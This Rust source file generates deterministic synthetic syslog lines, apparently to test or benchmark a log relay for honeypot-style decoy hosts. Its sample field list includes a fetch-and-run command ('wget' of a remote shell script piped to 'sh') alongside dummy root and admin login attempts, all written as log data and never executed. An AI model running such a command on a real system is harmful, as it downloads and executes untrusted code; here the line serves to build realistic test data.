//! The lines that are sent: RFC 5424, about 230 octets, each with its number, the same in every run.

use std::io::{self, BufWriter, Write};

/// Appends the line with this number.
pub(crate) fn write(number: u64, out: &mut impl Write) -> io::Result<()> {
    let chance = mix(number);
    let pick = |list: &[&'static str], shift: u32| list[(chance >> shift) as usize % list.len()];
    let micros = number * 137;
    let (seconds, micros) = (micros / 1_000_000, micros % 1_000_000);
    let (hours, minutes, seconds) = (seconds / 3600 % 24, seconds / 60 % 60, seconds % 60);
    let service = pick(&SERVICES, 0);
    let [a, b, c, d, ..] = (chance | 1).to_be_bytes();
    writeln!(
        out,
        "<{}>1 2026-09-21T{hours:02}:{minutes:02}:{seconds:02}.{micros:06}+00:00 decky-{:02}.lan {service} {} {} \
         [relay@55555 seq=\"{number:010}\" src_ip=\"{a}.{b}.{c}.{d}\" src_port=\"{}\" {}] {}",
        pick(&["134", "132", "131", "38", "86"], 8),
        chance % 40,
        chance >> 48,
        pick(&EVENTS, 16),
        1024 + chance % 64_000,
        pick(&FIELDS, 24),
        pick(&MESSAGES, 32),
    )
}

/// Writes so many lines; gives the bytes.
pub(crate) fn write_all(lines: u64, out: impl Write) -> io::Result<u64> {
    let mut out = BufWriter::with_capacity(1 << 20, Counted(out, 0));
    for number in 0..lines {
        write(number, &mut out)?;
    }
    out.flush()?;
    Ok(out.get_ref().1)
}

/// Spreads a number over 64 bits (the finaliser of splitmix64).
fn mix(number: u64) -> u64 {
    let mut z = number.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

struct Counted<W>(W, u64);

impl<W: Write> Write for Counted<W> {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let written = self.0.write(bytes)?;
        self.1 += written as u64;
        Ok(written)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.0.flush()
    }
}

const SERVICES: [&str; 6] = ["ssh", "http", "mysql", "telnet", "redis", "ldap"];
const EVENTS: [&str; 5] = ["connect", "login_attempt", "command", "scan", "disconnect"];
const FIELDS: [&str; 6] = [
    r#"username="root" password="qu\"ote""#,
    r#"username="admin" password="brack\]et back\\slash""#,
    r#"command="wget http://198.51.100.7/x.sh; sh x.sh" cwd="/root""#,
    r#"method="GET" path="/wp-login.php" user_agent="Mozilla/5.0 (X11)""#,
    r#"path="/var/lib/app/data/3fa94c/file.bin" bytes="73211""#,
    r#"client="libssh2_1.10" kex="curve25519-sha256""#,
];
const MESSAGES: [&str; 4] = [
    "connection from peer",
    "authentication failed for the account that was tried",
    "probe détecté ✓ suspicious behaviour",
    "session closed by the remote host",
];
